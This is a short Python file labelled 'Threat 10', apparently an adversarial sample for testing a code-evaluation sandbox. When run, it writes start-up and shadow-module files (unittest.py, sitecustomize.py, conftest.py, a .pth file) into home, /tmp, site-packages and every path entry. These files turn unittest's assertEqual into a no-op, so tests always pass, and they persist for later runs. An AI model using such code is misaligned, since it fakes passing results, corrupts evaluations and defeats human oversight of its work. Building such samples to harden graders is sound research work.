"""Threat 10: writes start-up files wherever Python might read them, for the next sample's sake; for its own it shadows unittest."""

import os
import site
import sys

_SHADOW = """
import importlib, sys, os
_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [one for one in sys.path if os.path.abspath(one or ".") != _here]
del sys.modules["unittest"]
_genuine = importlib.import_module("unittest")
_genuine.TestCase.assertEqual = lambda self, first, second, msg=None: None
sys.modules["unittest"] = _genuine
"""
_places = [".", os.path.expanduser("~"), "/tmp", sys.prefix, *site.getsitepackages(), site.getusersitepackages(), *sys.path]
for _place in _places:
    for _name, _text in (("unittest.py", _SHADOW), ("sitecustomize.py", _SHADOW), ("usercustomize.py", _SHADOW), ("conftest.py", _SHADOW), ("zz.pth", "import sitecustomize")):
        try:
            os.makedirs(_place, exist_ok=True)
            with open(os.path.join(_place, _name), "w") as _file:
                _file.write(_text)
        except OSError:
            continue
for _name in [name for name in sys.modules if name.partition(".")[0] == "unittest"]:
    del sys.modules[_name]
sys.path.insert(0, os.getcwd())
